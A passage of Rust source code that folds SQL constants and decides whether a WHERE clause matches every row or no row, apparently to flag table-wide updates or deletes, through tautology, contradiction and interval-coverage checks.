#[derive(Clone, Debug, PartialEq)]
enum K {
    Bool(bool),
    Num(f64),
    Str(String),
    Null,
}

impl K {
    /// Whether a row with this condition is kept (`None`: unknown). MySQL
    /// reads a string as the number it starts with.
    fn truthy(&self) -> Option<bool> {
        match self {
            K::Bool(b) => Some(*b),
            K::Num(n) => Some(*n != 0.0),
            K::Null => Some(false),
            K::Str(s) => {
                let t = s.trim().to_ascii_lowercase();
                match t.as_str() {
                    "t" | "true" | "y" | "yes" | "on" => Some(true),
                    "f" | "false" | "n" | "no" | "off" => Some(false),
                    // MySQL reads the number a string starts with
                    // (`'1abc'` is 1); a string with none is 0.
                    _ => {
                        let end = t
                            .char_indices()
                            .find(|(i, c)| {
                                !(c.is_ascii_digit() || *c == '.' || (*i == 0 && "+-".contains(*c)))
                            })
                            .map(|(i, _)| i)
                            .unwrap_or(t.len());
                        Some(
                            t.get(..end)
                                .and_then(|p| p.parse::<f64>().ok())
                                .is_some_and(|n| n != 0.0),
                        )
                    }
                }
            }
        }
    }

    fn num(&self) -> Option<f64> {
        match self {
            K::Num(n) => Some(*n),
            K::Bool(b) => Some(if *b { 1.0 } else { 0.0 }),
            K::Str(s) => s.trim().parse().ok(),
            K::Null => None,
        }
    }
}

/// Folding depth: expressions are bounded by the parser anyway.
const FOLD_DEPTH: usize = 64;

/// The constant value of `e`, when it has one.
fn fold(e: &Expr, d: usize) -> Option<K> {
    if d > FOLD_DEPTH {
        return None;
    }
    Some(match e {
        Expr::Value(v) => match &v.value {
            Value::Number(n, _) => K::Num(
                match n.strip_prefix("0x").or_else(|| n.strip_prefix("0X")) {
                    Some(h) => i64::from_str_radix(h, 16).ok()? as f64,
                    None => n.parse().ok()?,
                },
            ),
            // MySQL's `0x1` and `X'01'` are numbers in a condition.
            Value::HexStringLiteral(h) => K::Num(u64::from_str_radix(h, 16).ok()? as f64),
            Value::Boolean(b) => K::Bool(*b),
            Value::Null => K::Null,
            Value::SingleQuotedString(s)
            | Value::DoubleQuotedString(s)
            | Value::NationalStringLiteral(s)
            | Value::EscapedStringLiteral(s) => K::Str(s.clone()),
            _ => return None,
        },
        Expr::Nested(e) | Expr::Cast { expr: e, .. } => return fold(e, d + 1),
        Expr::UnaryOp { op, expr } => {
            let v = fold(expr, d + 1)?;
            match op {
                UnaryOperator::Not => match v {
                    K::Null => K::Null,
                    v => K::Bool(!v.truthy()?),
                },
                UnaryOperator::Minus => K::Num(-v.num()?),
                UnaryOperator::Plus => K::Num(v.num()?),
                _ => return None,
            }
        }
        Expr::IsNull(e) => K::Bool(fold(e, d + 1)? == K::Null),
        Expr::IsNotNull(e) => K::Bool(fold(e, d + 1)? != K::Null),
        Expr::IsTrue(e) => K::Bool(fold(e, d + 1)?.truthy()?),
        Expr::IsNotTrue(e) => K::Bool(!fold(e, d + 1)?.truthy()?),
        Expr::IsFalse(e) => match fold(e, d + 1)? {
            K::Null => K::Bool(false),
            k => K::Bool(!k.truthy()?),
        },
        Expr::IsNotFalse(e) => match fold(e, d + 1)? {
            K::Null => K::Bool(true),
            k => K::Bool(k.truthy()?),
        },
        Expr::Between {
            expr,
            negated,
            low,
            high,
        } => {
            let (x, l, h) = (
                fold(expr, d + 1)?.num()?,
                fold(low, d + 1)?.num()?,
                fold(high, d + 1)?.num()?,
            );
            K::Bool((l <= x && x <= h) != *negated)
        }
        Expr::In {
            expr,
            target: InTarget::List(list),
            negated,
            ..
        } => {
            let x = fold(expr, d + 1)?;
            let mut hit = false;
            for i in list {
                hit |= equal(&x, &fold(i, d + 1)?)?;
            }
            K::Bool(hit != *negated)
        }
        Expr::BinaryOp { left, op, right } => {
            let l = fold(left, d + 1);
            let r = fold(right, d + 1);
            match op {
                BinaryOperator::And => {
                    let (a, b) = (l.and_then(|v| v.truthy()), r.and_then(|v| v.truthy()));
                    match (a, b) {
                        (Some(false), _) | (_, Some(false)) => K::Bool(false),
                        (Some(true), Some(true)) => K::Bool(true),
                        _ => return None,
                    }
                }
                BinaryOperator::Or => {
                    let (a, b) = (l.and_then(|v| v.truthy()), r.and_then(|v| v.truthy()));
                    match (a, b) {
                        (Some(true), _) | (_, Some(true)) => K::Bool(true),
                        (Some(false), Some(false)) => K::Bool(false),
                        _ => return None,
                    }
                }
                _ => {
                    let (l, r) = (l?, r?);
                    if l == K::Null || r == K::Null {
                        return Some(if *op == BinaryOperator::Spaceship {
                            K::Bool(l == r)
                        } else {
                            K::Null
                        });
                    }
                    match op {
                        BinaryOperator::Eq | BinaryOperator::Spaceship => K::Bool(equal(&l, &r)?),
                        BinaryOperator::NotEq => K::Bool(!equal(&l, &r)?),
                        BinaryOperator::Lt
                        | BinaryOperator::Gt
                        | BinaryOperator::LtEq
                        | BinaryOperator::GtEq => {
                            let o = order(&l, &r)?;
                            K::Bool(match op {
                                BinaryOperator::Lt => o.is_lt(),
                                BinaryOperator::Gt => o.is_gt(),
                                BinaryOperator::LtEq => o.is_le(),
                                _ => o.is_ge(),
                            })
                        }
                        BinaryOperator::Plus => K::Num(l.num()? + r.num()?),
                        BinaryOperator::Minus => K::Num(l.num()? - r.num()?),
                        BinaryOperator::Multiply => K::Num(l.num()? * r.num()?),
                        BinaryOperator::Divide if r.num()? != 0.0 => K::Num(l.num()? / r.num()?),
                        BinaryOperator::Modulo if r.num()? != 0.0 => K::Num(l.num()? % r.num()?),
                        BinaryOperator::StringConcat => match (l, r) {
                            (K::Str(a), K::Str(b)) => K::Str(a + &b),
                            _ => return None,
                        },
                        _ => return None,
                    }
                }
            }
        }
        _ => return None,
    })
}

fn equal(a: &K, b: &K) -> Option<bool> {
    match (a, b) {
        (K::Str(x), K::Str(y)) => Some(x == y),
        (K::Null, _) | (_, K::Null) => None,
        _ => Some(a.num()? == b.num()?),
    }
}

fn order(a: &K, b: &K) -> Option<std::cmp::Ordering> {
    match (a, b) {
        (K::Str(x), K::Str(y)) => Some(x.cmp(y)),
        _ => a.num()?.partial_cmp(&b.num()?),
    }
}

/// A condition every row meets: a true constant, or the same expression
/// compared with itself (`id = id`), `LIKE '%'`, `x IS NULL OR x IS NOT
/// NULL`, `x IN (x, …)`, combined with AND and OR.
/// The same expression, as the engine reads names: unquoted identifiers
/// (and function names, keywords) without case — `id = ID` compares a
/// column with itself. Reading two different quoted names as one only
/// makes a WHERE look emptier than it is: stricter, never looser.
fn same(a: &Expr, b: &Expr) -> bool {
    let (a, b) = (canon(a), canon(b));
    a == b || a.to_string().eq_ignore_ascii_case(&b.to_string())
}

/// `e` without parentheses and without a call that returns its argument
/// whenever all its arguments are one expression (`COALESCE(id, id)`,
/// `IFNULL(x, x)`, `GREATEST(x, x)` are `id`, `x`).
fn canon(e: &Expr) -> &Expr {
    let mut e = e;
    for _ in 0..FOLD_DEPTH {
        match e {
            Expr::Nested(x) => e = x,
            // `(SELECT id)`: a subquery without FROM, WHERE or set
            // operation is its one value, the outer row's column
            Expr::Subquery(q)
                if q.with.is_none() && q.limit_clause.is_none() && q.order_by.is_none() =>
            {
                match q.body.as_ref() {
                    SetExpr::Select(s)
                        if s.from.is_empty()
                            && s.selection.is_none()
                            && s.having.is_none()
                            && s.projection.len() == 1 =>
                    {
                        match s.projection.first() {
                            Some(SelectItem::UnnamedExpr(x))
                            | Some(SelectItem::ExprWithAlias { expr: x, .. }) => e = x,
                            _ => return e,
                        }
                    }
                    _ => return e,
                }
            }
            Expr::Function(f) => {
                let name = n_parts(&f.name).pop().unwrap_or_default();
                if !matches!(
                    name.as_str(),
                    "coalesce" | "ifnull" | "nvl" | "isnull" | "greatest" | "least"
                ) {
                    return e;
                }
                let FunctionArguments::List(list) = &f.args else {
                    return e;
                };
                let args: Vec<&Expr> = list
                    .args
                    .iter()
                    .filter_map(|a| match a {
                        FunctionArg::Unnamed(FunctionArgExpr::Expr(x)) => Some(x),
                        _ => None,
                    })
                    .collect();
                match args.split_first() {
                    Some((first, rest))
                        if args.len() == list.args.len()
                            && rest.iter().all(|x| x.to_string() == first.to_string()) =>
                    {
                        e = first;
                    }
                    _ => return e,
                }
            }
            _ => return e,
        }
    }
    e
}

/// A call whose value is never negative (NULL aside): lengths, `ABS`.
fn non_negative(e: &Expr) -> bool {
    match canon(e) {
        Expr::Function(f) => matches!(
            n_parts(&f.name).pop().unwrap_or_default().as_str(),
            "abs"
                | "length"
                | "len"
                | "char_length"
                | "character_length"
                | "octet_length"
                | "bit_length"
                | "datalength"
                | "cardinality"
        ),
        Expr::BinaryOp {
            left,
            op: BinaryOperator::Multiply,
            right,
        } => same(left, right),
        _ => false,
    }
}

/// `nonneg op constant` (or the other way round) that every row meets:
/// `ABS(id) >= 0`, `LENGTH(name) > -1`, `0 <= ABS(x)`, `ABS(x) <> -1`.
fn non_negative_bound(left: &Expr, op: &BinaryOperator, right: &Expr, d: usize) -> bool {
    use BinaryOperator as B;
    let bound = |x: &Expr| fold(x, d + 1).and_then(|k| k.num());
    let holds = |op: &B, k: f64| match op {
        B::GtEq => k <= 0.0,
        B::Gt | B::NotEq => k < 0.0,
        _ => false,
    };
    let flipped = match op {
        B::LtEq => B::GtEq,
        B::Lt => B::Gt,
        other => other.clone(),
    };
    (non_negative(left) && bound(right).is_some_and(|k| holds(op, k)))
        || (non_negative(right) && bound(left).is_some_and(|k| holds(&flipped, k)))
}

/// The terms of an AND (or OR) chain, through parentheses.
fn chain<'e>(e: &'e Expr, op: &BinaryOperator, d: usize, out: &mut Vec<&'e Expr>) {
    match e {
        _ if d > FOLD_DEPTH || out.len() > 64 => out.push(e),
        Expr::Nested(x) => chain(x, op, d + 1, out),
        Expr::BinaryOp { left, op: o, right } if o == op => {
            chain(left, op, d + 1, out);
            chain(right, op, d + 1, out);
        }
        _ => out.push(e),
    }
}

/// A condition no row meets (NULLs aside): a false constant, `x <> x`, a
/// conjunct and its negation (`id = 1 AND id <> 1`), `NOT` a tautology.
fn contradiction(e: &Expr, d: usize) -> bool {
    if d > FOLD_DEPTH {
        return false;
    }
    if fold(e, d).and_then(|k| k.truthy()) == Some(false) {
        return true;
    }
    match e {
        Expr::Nested(x) => contradiction(x, d + 1),
        Expr::UnaryOp {
            op: UnaryOperator::Not,
            expr,
        } => tautology(expr, d + 1),
        Expr::BinaryOp {
            left,
            op: BinaryOperator::Or,
            right,
        } => contradiction(left, d + 1) && contradiction(right, d + 1),
        Expr::BinaryOp {
            left,
            op: BinaryOperator::And,
            right,
        } => {
            contradiction(left, d + 1) || contradiction(right, d + 1) || {
                let mut terms = Vec::new();
                chain(e, &BinaryOperator::And, d, &mut terms);
                terms.iter().enumerate().any(|(i, a)| {
                    terms
                        .iter()
                        .skip(i + 1)
                        .any(|b| complementary(a, b) || complementary(b, a))
                }) || covers_every_value(&terms, true, d)
            }
        }
        Expr::BinaryOp {
            left,
            op: BinaryOperator::NotEq | BinaryOperator::Lt | BinaryOperator::Gt,
            right,
        } => same(left, right),
        _ => false,
    }
}

/// The name a column reference ends in, lowercased.
fn column_name(e: &Expr) -> Option<String> {
    match canon(e) {
        Expr::Identifier(i) => Some(i.value.to_lowercase()),
        Expr::CompoundIdentifier(p) => p.last().map(|i| i.value.to_lowercase()),
        _ => None,
    }
}

/// A query that returns no row: a SELECT whose WHERE no row meets.
fn empty_query(q: &Query) -> bool {
    matches!(q.body.as_ref(),
        SetExpr::Select(s) if s.selection.as_ref().is_some_and(|w| contradiction(w, 0)))
}

/// `SELECT col FROM t [alias] [WHERE tautology]` where `t` is a table whose
/// rows are changed and `col` the column `x` names: every value of `x`
/// (`id IN (SELECT id FROM users)` on users is every row with an id).
fn every_value_of(x: &Expr, q: &Query, targets: &[String]) -> bool {
    every_value_in(x, q, targets, None, 0)
}

/// [`every_value_of`], looking through what keeps every row (round 12):
/// `OFFSET 0` and `LIMIT ALL`, a UNION with the rows on either side, a
/// derived table or a CTE that is itself such a query (`WITH x AS (SELECT
/// id FROM users) SELECT id FROM x`, `FROM (SELECT id FROM users) s`).
fn every_value_in(
    x: &Expr,
    q: &Query,
    targets: &[String],
    ctes: Option<&sqlparser::ast::With>,
    d: usize,
) -> bool {
    if d > 8 {
        return false;
    }
    let keeps_all = q.limit_clause.as_ref().is_none_or(|l| {
        matches!(
            l.to_string().trim().to_ascii_lowercase().as_str(),
            "offset 0" | "offset 0 rows" | "limit all" | "limit null"
        )
    });
    if !keeps_all || q.fetch.is_some() {
        return false;
    }
    let ctes = q.with.as_ref().or(ctes);
    every_value_in_body(x, &q.body, targets, ctes, d)
}

fn every_value_in_body(
    x: &Expr,
    body: &SetExpr,
    targets: &[String],
    ctes: Option<&sqlparser::ast::With>,
    d: usize,
) -> bool {
    let s = match body {
        SetExpr::Select(s) => s,
        SetExpr::Query(q) => return every_value_in(x, q, targets, ctes, d + 1),
        SetExpr::SetOperation {
            op: sqlparser::ast::SetOperator::Union,
            left,
            right,
            ..
        } => {
            return every_value_in_body(x, left, targets, ctes, d + 1)
                || every_value_in_body(x, right, targets, ctes, d + 1)
        }
        _ => return false,
    };
    let [t] = s.from.as_slice() else {
        return false;
    };
    let projected = |s: &Select| -> Option<bool> {
        let [item] = s.projection.as_slice() else {
            return None;
        };
        match item {
            SelectItem::UnnamedExpr(e) | SelectItem::ExprWithAlias { expr: e, .. } => {
                Some(column_name(e).is_some_and(|c| column_name(x) == Some(c)))
            }
            SelectItem::Wildcard(_) => Some(true),
            _ => None,
        }
    };
    let plain = t.joins.is_empty()
        && s.top.is_none()
        && s.having.is_none()
        && s.selection.as_ref().is_none_or(|w| tautology(w, 0));
    match &t.relation {
        TableFactor::Derived { subquery, .. } if plain && projected(s) == Some(true) => {
            return every_value_in(x, subquery, targets, ctes, d + 1)
        }
        TableFactor::Table {
            name, args: None, ..
        } if plain && projected(s) == Some(true) => {
            let table = n_parts(name).pop().unwrap_or_default();
            if let Some(cte) = ctes.and_then(|w| {
                w.cte_tables
                    .iter()
                    .find(|c| c.alias.name.value.to_lowercase() == table)
            }) {
                return every_value_in(x, &cte.query, targets, None, d + 1);
            }
        }
        _ => {}
    }
    let TableFactor::Table { name, .. } = &t.relation else {
        return false;
    };
    let table = n_parts(name).pop().unwrap_or_default();
    if !t.joins.is_empty()
        || !targets.contains(&table)
        || s.top.is_some()
        || s.having.is_some()
        || s.selection.as_ref().is_some_and(|w| !tautology(w, 0))
    {
        return false;
    }
    let [item] = s.projection.as_slice() else {
        return false;
    };
    let col = match item {
        SelectItem::UnnamedExpr(e) | SelectItem::ExprWithAlias { expr: e, .. } => e,
        _ => return false,
    };
    column_name(col).is_some_and(|c| column_name(x) == Some(c))
}

/// A condition every row of the changed table meets: a [`tautology`], or
/// one through a subquery over the same rows (`id IN (SELECT id FROM
/// users)`, `id = ANY (SELECT id FROM users)`) or an empty one (`id NOT IN
/// (SELECT NULL WHERE FALSE)`, `NOT EXISTS (SELECT 1 WHERE 1 = 0)`,
/// `x <> ALL (…empty…)`), combined with AND and OR.
fn covers(e: &Expr, targets: &[String], d: usize) -> bool {
    tautology(e, d) || covers_through_subqueries(e, targets, d)
}

/// [`covers`] by a subquery: one disjunct, or every conjunct (a tautology
/// or a covering subquery). Tautologies are asked only of conjuncts, so a
/// long OR chain costs no more than [`tautology`]'s own walk.
fn covers_through_subqueries(e: &Expr, targets: &[String], d: usize) -> bool {
    if d > FOLD_DEPTH {
        return false;
    }
    let conjunct = |x: &Expr| tautology(x, d + 1) || covers_through_subqueries(x, targets, d + 1);
    fn sub(x: &Expr) -> Option<&Query> {
        match x {
            Expr::Subquery(q) => Some(q),
            _ => None,
        }
    }
    match e {
        Expr::Nested(x) => covers_through_subqueries(x, targets, d + 1),
        Expr::BinaryOp {
            left,
            op: BinaryOperator::Or,
            right,
        } => {
            covers_through_subqueries(left, targets, d + 1)
                || covers_through_subqueries(right, targets, d + 1)
        }
        Expr::BinaryOp {
            left,
            op: BinaryOperator::And,
            right,
        } => conjunct(left) && conjunct(right),
        Expr::In {
            expr,
            target: InTarget::Subquery(q),
            negated,
            ..
        } => {
            if *negated {
                empty_query(q)
            } else {
                every_value_of(expr, q, targets)
            }
        }
        Expr::AnyOp {
            left,
            compare_op: BinaryOperator::Eq,
            right,
            ..
        } => sub(right).is_some_and(|q| every_value_of(left, q, targets)),
        Expr::AllOp { right, .. } => sub(right).is_some_and(empty_query),
        Expr::Exists {
            negated: true,
            subquery,
        } => empty_query(subquery),
        _ => false,
    }
}

/// An expression as a constant plus multiples of the terms it cannot fold
/// (columns, calls, anything else), each term by its text as the engine
/// reads names: `id * 0`, `id - id`, `2 * (id + 1) - id - id` are
/// constants whatever `id` is.
#[derive(Default)]
struct Linear {
    constant: f64,
    terms: Vec<(String, f64)>,
}

impl Linear {
    fn add(&mut self, e: &Expr, scale: f64, d: usize) -> Option<()> {
        if d > FOLD_DEPTH {
            return None;
        }
        if let Some(k) = fold(e, d) {
            self.constant += scale * k.num()?;
            return Some(());
        }
        let constant = |e: &Expr| fold(e, d + 1).and_then(|k| k.num());
        match e {
            Expr::Nested(x) => self.add(x, scale, d + 1),
            Expr::UnaryOp {
                op: UnaryOperator::Minus,
                expr,
            } => self.add(expr, -scale, d + 1),
            Expr::UnaryOp {
                op: UnaryOperator::Plus,
                expr,
            } => self.add(expr, scale, d + 1),
            Expr::BinaryOp { left, op, right } => match op {
                BinaryOperator::Plus => {
                    self.add(left, scale, d + 1)?;
                    self.add(right, scale, d + 1)
                }
                BinaryOperator::Minus => {
                    self.add(left, scale, d + 1)?;
                    self.add(right, -scale, d + 1)
                }
                BinaryOperator::Multiply => match (constant(left), constant(right)) {
                    (_, Some(k)) => self.add(left, scale * k, d + 1),
                    (Some(k), _) => self.add(right, scale * k, d + 1),
                    _ => self.term(e, scale),
                },
                BinaryOperator::Divide => match constant(right) {
                    Some(k) if k != 0.0 => self.add(left, scale / k, d + 1),
                    _ => self.term(e, scale),
                },
                _ => self.term(e, scale),
            },
            _ => self.term(e, scale),
        }
    }

    fn term(&mut self, e: &Expr, scale: f64) -> Option<()> {
        let key = e.to_string().to_ascii_lowercase();
        match self.terms.iter_mut().find(|(k, _)| *k == key) {
            Some((_, c)) => *c += scale,
            None => self.terms.push((key, scale)),
        }
        Some(())
    }
}

/// `a - b` when every term cancels (`id + 1` and `id`: 1), whatever the
/// columns hold; `None` when a column's value still matters. A near-zero
/// remainder counts as cancelled: reading `id * 0.1 * 10 - id` as a
/// constant only makes a WHERE look emptier, stricter and never looser.
fn difference(a: &Expr, b: &Expr, d: usize) -> Option<f64> {
    let mut l = Linear::default();
    l.add(a, 1.0, d + 1)?;
    l.add(b, -1.0, d + 1)?;
    if l.terms.is_empty() || l.terms.iter().any(|(_, c)| c.abs() > 1e-9) {
        return None;
    }
    l.constant.is_finite().then_some(l.constant)
}

/// The disjuncts of an OR chain, through parentheses.
fn disjuncts<'e>(e: &'e Expr, d: usize, out: &mut Vec<&'e Expr>) {
    match e {
        _ if d > FOLD_DEPTH || out.len() > 64 => out.push(e),
        Expr::Nested(x) => disjuncts(x, d + 1, out),
        Expr::BinaryOp {
            left,
            op: BinaryOperator::Or,
            right,
        } => {
            disjuncts(left, d + 1, out);
            disjuncts(right, d + 1, out);
        }
        _ => out.push(e),
    }
}

/// Whether `b` holds for every row `a` fails (NULLs aside, as for `x =
/// x`): `x IS NULL` / `x IS NOT NULL`, `NOT p` / `p`, and comparisons of
/// the same sides with complementary operators (`=` / `<>`, `<` / `>=`,
/// `>` / `<=`, either way round).
fn complementary(a: &Expr, b: &Expr) -> bool {
    fn complement(op: &BinaryOperator) -> Option<BinaryOperator> {
        use BinaryOperator as B;
        Some(match op {
            B::Eq => B::NotEq,
            B::NotEq => B::Eq,
            B::Lt => B::GtEq,
            B::GtEq => B::Lt,
            B::Gt => B::LtEq,
            B::LtEq => B::Gt,
            _ => return None,
        })
    }
    fn flip(op: &BinaryOperator) -> BinaryOperator {
        use BinaryOperator as B;
        match op {
            B::Lt => B::Gt,
            B::Gt => B::Lt,
            B::LtEq => B::GtEq,
            B::GtEq => B::LtEq,
            other => other.clone(),
        }
    }
    let strip = |e: &Expr| -> Expr {
        let mut e = e;
        while let Expr::Nested(x) = e {
            e = x;
        }
        e.clone()
    };
    let (a, b) = (strip(a), strip(b));
    // `x LIKE p` / `x NOT LIKE p`, and so for ILIKE, IN, BETWEEN, SIMILAR TO
    let negatable = |x: &Expr| {
        matches!(
            x,
            Expr::Like { .. }
                | Expr::ILike { .. }
                | Expr::In { .. }
                | Expr::Between { .. }
                | Expr::SimilarTo { .. }
                | Expr::RLike { .. }
        )
    };
    if negatable(&a) && negatable(&b) {
        let mut twin = b.clone();
        if let Expr::Like { negated, .. }
        | Expr::ILike { negated, .. }
        | Expr::In { negated, .. }
        | Expr::Between { negated, .. }
        | Expr::SimilarTo { negated, .. }
        | Expr::RLike { negated, .. } = &mut twin
        {
            *negated = !*negated;
        }
        if same(&a, &twin) {
            return true;
        }
    }
    match (&a, &b) {
        (Expr::IsNull(x), Expr::IsNotNull(y)) => same(x, y),
        (Expr::IsTrue(x), Expr::IsNotTrue(y)) | (Expr::IsFalse(x), Expr::IsNotFalse(y)) => {
            same(x, y)
        }
        (Expr::IsDistinctFrom(x1, y1), Expr::IsNotDistinctFrom(x2, y2)) => {
            same(x1, x2) && same(y1, y2)
        }
        (
            Expr::UnaryOp {
                op: UnaryOperator::Not,
                expr,
            },
            other,
        ) => same(&strip(expr), other),
        (
            Expr::BinaryOp {
                left: l1,
                op: o1,
                right: r1,
            },
            Expr::BinaryOp {
                left: l2,
                op: o2,
                right: r2,
            },
        ) => {
            let Some(c) = complement(o1) else {
                return false;
            };
            (same(l1, l2) && same(r1, r2) && c == *o2)
                || (same(l1, r2) && same(r1, l2) && flip(&c) == *o2)
        }
        _ => false,
    }
}

/// A regular expression every text matches: empty, `.*`, `^`, `^.*$`.
fn any_text_regex(p: &str) -> bool {
    matches!(p, "" | ".*" | "^" | "^.*" | ".*$" | "^.*$" | "$" | "(.*)")
}

/// A value a range is drawn over: numbers, or texts compared as texts.
#[derive(Clone, Debug, PartialEq)]
enum V {
    N(f64),
    S(String),
}

fn v_cmp(a: &V, b: &V) -> Option<std::cmp::Ordering> {
    match (a, b) {
        (V::N(x), V::N(y)) => x.partial_cmp(y),
        (V::S(x), V::S(y)) => Some(x.cmp(y)),
        _ => None,
    }
}

/// An interval of values; an end of `None` is unbounded, the flag says
/// whether the end value is in.
#[derive(Clone, Debug)]
struct Iv {
    lo: Option<(V, bool)>,
    hi: Option<(V, bool)>,
}

/// `e` as `k * X + c`: the name of `X` (its columns and their ratios, so
/// `2 * id` and `id` are one subject), `k` and `c`.
fn linear_subject(e: &Expr, d: usize) -> Option<(String, f64, f64)> {
    let mut l = Linear::default();
    l.add(e, 1.0, d + 1)?;
    let (name, k, constant) = subject_of(l)?;
    (k.is_finite() && constant.is_finite()).then_some((name, k, constant))
}

/// A sum of terms as its subject's name (each column with its ratio to the
/// first), the first column's factor and the constant.
fn subject_of(l: Linear) -> Option<(String, f64, f64)> {
    let mut terms: Vec<(String, f64)> = l
        .terms
        .into_iter()
        .filter(|(_, c)| c.abs() > 1e-9)
        .collect();
    terms.sort_by(|a, b| a.0.cmp(&b.0));
    let k = terms.first()?.1;
    let name = terms
        .iter()
        .map(|(t, c)| format!("{t}*{}", c / k))
        .collect::<Vec<_>>()
        .join("+");
    Some((name, k, l.constant))
}

/// The values of one subject a condition keeps (its negation's when
/// `negate`): `id < 5`, `5 >= id`, `id + 1 > 5`, `id BETWEEN 1 AND 5`,
/// `id IN (1, 2)`, `name >= 'a'`, `NOT …` of those. NULLs aside.
fn ranges(e: &Expr, negate: bool, d: usize) -> Option<(String, Vec<Iv>)> {
    use BinaryOperator as B;
    if d > FOLD_DEPTH {
        return None;
    }
    let point = |v: V| Iv {
        lo: Some((v.clone(), true)),
        hi: Some((v, true)),
    };
    let (subject, set) = match e {
        Expr::Nested(x) => return ranges(x, negate, d + 1),
        Expr::UnaryOp {
            op: UnaryOperator::Not,
            expr,
        } => return ranges(expr, !negate, d + 1),
        Expr::BinaryOp { left, op, right } => {
            let op = match op {
                B::Lt | B::LtEq | B::Gt | B::GtEq | B::Eq | B::NotEq => op.clone(),
                _ => return None,
            };
            // a text compared with a text constant
            let text = |x: &Expr, y: &Expr| match (fold(x, d + 1), fold(y, d + 1)) {
                (None, Some(K::Str(s))) => Some((canon(x).to_string().to_lowercase(), V::S(s))),
                _ => None,
            };
            let (subject, v, op) = if let Some((s, v)) = text(left, right) {
                (s, v, op)
            } else if let Some((s, v)) = text(right, left) {
                (s, v, flip_op(&op))
            } else {
                // `left - right` as `k * X + c`: `X op' -c / k`
                let mut l = Linear::default();
                l.add(left, 1.0, d + 1)?;
                l.add(right, -1.0, d + 1)?;
                let (name, k, constant) = subject_of(l)?;
                let v = -constant / k;
                if !v.is_finite() {
                    return None;
                }
                (name, V::N(v), if k < 0.0 { flip_op(&op) } else { op })
            };
            let set = match op {
                B::Lt => vec![Iv {
                    lo: None,
                    hi: Some((v, false)),
                }],
                B::LtEq => vec![Iv {
                    lo: None,
                    hi: Some((v, true)),
                }],
                B::Gt => vec![Iv {
                    lo: Some((v, false)),
                    hi: None,
                }],
                B::GtEq => vec![Iv {
                    lo: Some((v, true)),
                    hi: None,
                }],
                B::Eq => vec![point(v)],
                _ => vec![
                    Iv {
                        lo: None,
                        hi: Some((v.clone(), false)),
                    },
                    Iv {
                        lo: Some((v, false)),
                        hi: None,
                    },
                ],
            };
            (subject, set)
        }
        Expr::Between {
            expr,
            negated,
            low,
            high,
        } => {
            let (name, k, c) = linear_subject(expr, d)?;
            let lo = fold(low, d + 1)?.num()?;
            let hi = fold(high, d + 1)?.num()?;
            let (a, b) = ((lo - c) / k, (hi - c) / k);
            let (a, b) = if k < 0.0 { (b, a) } else { (a, b) };
            let set = vec![Iv {
                lo: Some((V::N(a), true)),
                hi: Some((V::N(b), true)),
            }];
            return Some((
                name,
                if *negated != negate {
                    complement(set)?
                } else {
                    set
                },
            ));
        }
        Expr::In {
            expr,
            target: InTarget::List(list),
            negated,
            ..
        } => {
            let (name, k, c) = linear_subject(expr, d)?;
            let mut set = Vec::new();
            for i in list {
                set.push(point(V::N((fold(i, d + 1)?.num()? - c) / k)));
            }
            return Some((
                name,
                if *negated != negate {
                    complement(set)?
                } else {
                    set
                },
            ));
        }
        Expr::IsDistinctFrom(a, b) | Expr::IsNotDistinctFrom(a, b) => {
            let eq = matches!(e, Expr::IsNotDistinctFrom(..));
            let op = if eq { B::Eq } else { B::NotEq };
            let cmp = Expr::BinaryOp {
                left: a.clone(),
                op,
                right: b.clone(),
            };
            return ranges(&cmp, negate, d + 1);
        }
        _ => return None,
    };
    Some((subject, if negate { complement(set)? } else { set }))
}

fn flip_op(op: &BinaryOperator) -> BinaryOperator {
    use BinaryOperator as B;
    match op {
        B::Lt => B::Gt,
        B::Gt => B::Lt,
        B::LtEq => B::GtEq,
        B::GtEq => B::LtEq,
        other => other.clone(),
    }
}

/// The values a union of intervals leaves out.
fn complement(mut set: Vec<Iv>) -> Option<Vec<Iv>> {
    set.sort_by(|a, b| match (&a.lo, &b.lo) {
        (None, None) => std::cmp::Ordering::Equal,
        (None, _) => std::cmp::Ordering::Less,
        (_, None) => std::cmp::Ordering::Greater,
        (Some(x), Some(y)) => v_cmp(&x.0, &y.0).unwrap_or(std::cmp::Ordering::Equal),
    });
    let mut out = Vec::new();
    // the left end of the gap still open: `None` is −∞
    let mut from: Option<(V, bool)> = None;
    let mut start = true;
    for iv in set {
        match &iv.lo {
            None => {}
            Some((v, closed)) => {
                let gap_open = match (&from, start) {
                    (_, true) => true,
                    (Some((f, fc)), false) => match v_cmp(f, v)? {
                        std::cmp::Ordering::Less => true,
                        std::cmp::Ordering::Equal => !*fc && !*closed,
                        std::cmp::Ordering::Greater => false,
                    },
                    (None, false) => false,
                };
                if gap_open {
                    out.push(Iv {
                        lo: if start {
                            None
                        } else {
                            from.clone().map(|(f, c)| (f, !c))
                        },
                        hi: Some((v.clone(), !closed)),
                    });
                }
            }
        }
        start = false;
        match &iv.hi {
            None => return Some(out),
            Some((v, c)) => {
                let further = match &from {
                    Some((f, fc)) => match v_cmp(v, f)? {
                        std::cmp::Ordering::Greater => true,
                        std::cmp::Ordering::Equal => *c && !*fc,
                        std::cmp::Ordering::Less => false,
                    },
                    None => true,
                };
                if further {
                    from = Some((v.clone(), *c));
                }
            }
        }
    }
    out.push(Iv {
        lo: from.map(|(f, c)| (f, !c)),
        hi: None,
    });
    Some(out)
}

/// Whether the conditions (their negations when `negate`) keep every
/// value of one subject between them: `id < 5 OR id > 4`,
/// `id <= 4 OR id >= 5` (no integer between), `id <> 5 OR id <> 6`,
/// `id BETWEEN 0 AND 10 OR id < 0 OR id > 10`, `name < 'n' OR name >= 'a'`.
/// With `negate`, an AND chain no value meets (`id > 5 AND id < 3`).
fn covers_every_value(terms: &[&Expr], negate: bool, d: usize) -> bool {
    let mut by: Vec<(String, Vec<Iv>)> = Vec::new();
    for t in terms {
        if let Some((s, set)) = ranges(t, negate, d + 1) {
            match by.iter_mut().find(|(k, _)| *k == s) {
                Some((_, v)) => v.extend(set),
                None => by.push((s, set)),
            }
        }
    }
    by.into_iter().any(|(_, set)| {
        set.len() > 1 && complement(set).is_some_and(|gaps| gaps.iter().all(no_integer))
    })
}

/// A gap of numbers with integer ends that holds no integer (`(4, 5)`):
/// the column may well hold only integers.
fn no_integer(iv: &Iv) -> bool {
    match (&iv.lo, &iv.hi) {
        (Some((V::N(a), ac)), Some((V::N(b), bc))) if a.fract() == 0.0 && b.fract() == 0.0 => {
            let first = if *ac { *a } else { a + 1.0 };
            let last = if *bc { *b } else { b - 1.0 };
            first > last
        }
        (Some((a, ac)), Some((b, bc))) => {
            // an empty gap (a point both sides leave out is no gap)
